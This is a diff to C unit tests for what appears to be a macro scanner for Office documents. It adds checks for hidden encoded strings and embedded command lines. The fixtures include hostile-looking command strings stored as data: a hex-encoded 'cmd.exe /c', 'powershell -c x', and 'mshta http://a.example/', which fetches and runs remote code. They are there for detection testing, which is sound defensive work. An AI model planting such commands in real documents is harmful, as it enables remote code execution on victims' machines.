@@ -11,6 +11,7 @@
 #include <setjmp.h>
 #include <stdarg.h>
 #include <stddef.h>
+#include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
 
@@ -34,7 +35,6 @@ static void open_macro(const char *source)
 	struct vba_writer_module module = { .name = "Module1", .source = source };
 
 	ole_writer_init(&writer);
-	ole_writer_add(&writer, "WordDocument", text_span("no document"));
 	vba_writer_add(&writer, "Macros", &module, 1);
 	open_file();
 }
@@ -156,6 +156,8 @@ static void test_decode(void **state)
 /* A string that hides another is told as such, too. */
 static void test_hidden(void **state)
 {
+	char dense[301] = "", source[512];
+
 	(void)state;
 	expect_command("Sub a()\r\n x = Decode(\"636d642e657865202f632065636863\")\r\nEnd Sub\r\n", "cmd.exe /c");
 	assert_true(exam_test_found(t, FINDING_MACRO_HIDDEN, "cmd.exe"));
@@ -165,6 +167,16 @@ static void test_hidden(void **state)
 	assert_true(found(FINDING_MACRO_HIDDEN));
 	open_macro("Sub a()\r\n x = \"The quick brown fox\" & y & \"jumps over the lazy dog\"\r\nEnd Sub\r\n");
 	assert_false(found(FINDING_MACRO_HIDDEN) || found(FINDING_MACRO_COMMAND));
+	/* Long strings that only a decoder reads; long texts that people read. */
+	memset(dense, 'k', 300);
+	snprintf(source, sizeof(source), "Sub a()\r\n x = Decode(\"%s\")\r\nEnd Sub\r\n", dense);
+	open_macro(source);
+	assert_true(exam_test_found(t, FINDING_MACRO_HIDDEN, "300 bytes"));
+	for (size_t i = 0; i < 300; i += 9)
+		dense[i] = ' ';
+	snprintf(source, sizeof(source), "Sub a()\r\n x = Decode(\"%s\")\r\nEnd Sub\r\n", dense);
+	open_macro(source);
+	assert_false(found(FINDING_MACRO_HIDDEN));
 }
 
 static void test_url(void **state)
@@ -207,6 +219,11 @@ static void test_form(void **state)
 	ole_writer_add(&writer, "Macros/UserForm1/o", (struct span){ (const uint8_t *)"\0\1\2\3powershell -c x\0\0", 21 });
 	open_file();
 	assert_true(exam_test_found(t, FINDING_MACRO_COMMAND, "powershell -c x"));
+	ole_writer_init(&writer);
+	vba_writer_add(&writer, "Macros", &module, 1);
+	ole_writer_add(&writer, "\5SummaryInformation", (struct span){ (const uint8_t *)"\0\1\2\3mshta http://a.example/\0\0", 29 });
+	open_file();
+	assert_true(exam_test_found(t, FINDING_MACRO_COMMAND, "mshta http://a.example/"));
 }
 
 /* A module whose place in its stream is told wrongly, and a project without a readable `dir`. */
